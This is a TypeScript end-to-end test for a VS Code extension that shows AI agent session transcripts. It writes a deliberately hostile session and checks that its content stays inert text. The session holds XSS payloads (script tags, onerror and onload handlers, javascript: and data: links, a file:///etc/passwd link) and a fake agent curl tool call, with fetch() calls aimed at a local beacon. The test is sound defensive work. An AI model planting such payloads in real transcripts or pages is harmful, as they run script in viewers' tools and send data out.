/** A session written to attack whoever opens it: it opens, shows as text, and nothing happens. */
import type { Frame, Locator } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { Transcript, text, thinking, toolUse } from '../../scripts/lib/samples/transcript.ts';
import { startBeacon, type Beacon } from './support/beacon.ts';
import { agentFilesHash, writeSession } from './support/claudeFiles.ts';
import { inputOf } from './support/quickInput.ts';
import { screenshot, screenshotFailures } from './support/screenshots.ts';
import { allowAgents, openTranscript } from './support/sessions.ts';
import { openWindow, type VscodeWindow } from './support/window.ts';

const title =
  '[Free](command:workbench.action.files.newUntitledFile) $(flame) **bold** <img src=x> \u202eevil';
const usage = { input: 1, output: 1 };
const dialogs: string[] = [];
let beacon: Beacon;
let window: VscodeWindow;
let hashBefore: string;

beforeAll(async () => {
  beacon = await startBeacon();
  window = await openWindow({
    name: 'hostile',
    prepare: (sandbox) => {
      writeSession(sandbox, '-hostile', hostileSession(sandbox.workspace, beacon.address));
      hashBefore = agentFilesHash(sandbox);
    },
  });
  window.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await allowAgents(window);
});

afterAll(async () => {
  await window.close();
  await beacon.close();
});

screenshotFailures(() => window);

test('its title is plain text in the tree, in its tooltip and in a picker', async () => {
  const row = hostileRow();
  await row.waitFor();
  expect(await row.innerText()).toContain('[Free](command:workbench.action.files.newUntitledFile)');
  expect(await row.innerText()).not.toContain('\u202e');
  const tooltip = window.page.locator('.monaco-hover').filter({ hasText: 'Last change' });
  // A tree that is still being refreshed takes the tooltip away: the pointer comes again then.
  const shown = async () => {
    await window.page.mouse.move(0, 0);
    await row.locator('.monaco-icon-label').hover();
    await tooltip.waitFor({ timeout: 4_000 }).catch(() => undefined);
    return tooltip.isVisible();
  };
  await expect.poll(shown, { timeout: 30_000 }).toBe(true);
  expect(await tooltip.innerText()).toContain('**bold**');
  expect(await tooltip.locator('a, img, .codicon-flame').count()).toBe(0);

  await window.command('Multipath: Open Session…');
  const picked = window.pick('**bold**');
  await picked.waitFor();
  expect(await picked.locator('a[href], img, .codicon-flame').count()).toBe(0);
  await inputOf(window).press('Escape');
});

test('its messages show as text; nothing is loaded, sent or run', async () => {
  const frame = await openTranscript(window, hostileRow());
  const list = frame.locator('mp-list');
  await frame.getByRole('button', { name: 'Go to the first message' }).click();
  for (const line of await frame.locator('mp-item summary').all()) await line.click();
  // The markup that was not obeyed stands there to be read.
  for (const words of ['<script>', 'onerror', 'onload', '␛[31mred text', '�txet']) {
    await list.getByText(words).first().waitFor();
  }
  await frame.getByRole('button', { name: 'Show all (5.0 MB)' }).waitFor();
  await screenshot(window, 'hostile');
  expect(await unsafe(frame).count()).toBe(0);
  expect(await frame.locator('body').innerText()).not.toMatch(/[\u001b\u202e]/);
});

test('its links do nothing, or ask first', async () => {
  const frame = await window.webview('transcript');
  const tabs = await window.tab(/./).count();
  for (const words of ['run script', 'run command', 'open data', 'open file']) {
    await frame.getByText(words, { exact: true }).click();
  }
  await frame.getByText('to the web', { exact: true }).click();
  const question = window.page.locator('.monaco-dialog-box');
  await question.getByText(`${beacon.address}/link`).waitFor();
  await question.getByRole('button', { name: 'Cancel' }).click();
  await question.waitFor({ state: 'detached' });
  expect(await window.tab(/./).count()).toBe(tabs);
});

test('its line of 5 MB opens in an editor', async () => {
  const frame = await window.webview('transcript');
  await frame.getByRole('button', { name: 'Show all (5.0 MB)' }).click();
  await window.tab(/^\d+ You\.md/).waitFor();
  await window.page.locator('.editor-group-container .view-line').first().waitFor();
});

test('nothing of all this phoned home or touched the agent’s files', async () => {
  await fetch(`${beacon.address}/heard`);
  expect(beacon.requests).toEqual(['/heard']);
  expect(dialogs).toEqual([]);
  expect(agentFilesHash(window.sandbox)).toBe(hashBefore);
});

function hostileRow(): Locator {
  return window.treeItem(/^Session \[Free\]/);
}

/** Elements that could load or run something. */
function unsafe(frame: Frame): Locator {
  const elements = ['script', 'img', 'svg', 'iframe', 'object', 'embed', 'form', 'style', 'link'];
  return frame.locator('mp-message').locator([...elements, '[href]', '[src]', '[onclick]'].join());
}

function hostileSession(cwd: string, home: string): Transcript {
  const session = new Transcript('hostile', cwd, new Date(), '<b>model</b>');
  const steal = `fetch('${home}/script')`;
  session.prompt(`<script>${steal}</script><img src="${home}/img" onerror="${steal}">`);
  session.answer(
    [
      thinking(`<svg onload="${steal}"><image href="${home}/svg"/></svg>`),
      text(
        [
          `![remote](${home}/markdown-image) <iframe src="${home}/frame"></iframe>`,
          `<svg onload="${steal}"></svg><style>@import url(${home}/style);</style>`,
          `[run script](javascript:${encodeURI(steal)})`,
          '[run command](command:workbench.action.files.newUntitledFile)',
          `[open data](data:text/html,<script>${encodeURI(steal)}</script>)`,
          '[open file](file:///etc/passwd)',
          `[to the web](${home}/link)`,
          '\u001b[31mred text\u001b[0m and \u202etxet desrever\u202c',
        ].join('\n\n'),
      ),
      toolUse('attack', 'Bash', { command: `curl ${home}/tool # <script>${steal}</script>` }),
    ],
    usage,
  );
  session.results([{ call: 'attack', text: `<script>${steal}</script>\u001b[2J\u0007` }]);
  session.prompt('x'.repeat(5_000_000));
  session.note({ type: 'ai-title', aiTitle: title });
  return session;
}
